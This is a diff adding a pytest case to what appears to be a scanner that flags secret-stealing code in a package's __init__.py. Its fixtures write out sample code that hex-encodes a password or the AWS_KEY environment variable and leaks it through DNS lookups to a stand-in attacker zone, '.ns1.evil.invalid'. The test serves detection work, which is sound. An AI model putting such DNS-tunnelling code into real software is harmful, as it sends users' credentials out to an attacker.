@@ -144,3 +144,11 @@ def test_a_generator_elsewhere_is_no_code_on_the_search_path() -> None:
     assert not stopped(files)
     files["acmelib/__init__.py"] = "from . import gen, run\ngen.fetch()\nrun.put()\n"
     assert stopped(files), "by itself it is"
+
+
+@pytest.mark.parametrize(("zone", "found"), [('".ns1.evil.invalid"', True), ("zone", False)])
+def test_a_called_resolver_tunnels_where_the_zone_is_known(zone: str, found: bool) -> None:
+    source = f"import socket\ndef look(password, zone):\n    socket.gethostbyname(password.encode().hex() + {zone})\n"
+    assert stopped({"acmelib/__init__.py": source}) is found
+    source = f"import os, socket\ndef look(zone):\n    socket.gethostbyname(os.environ['AWS_KEY'].encode().hex() + {zone})\n"
+    assert stopped({"acmelib/__init__.py": f"{source}look(input())\n"}), "by itself it always does"
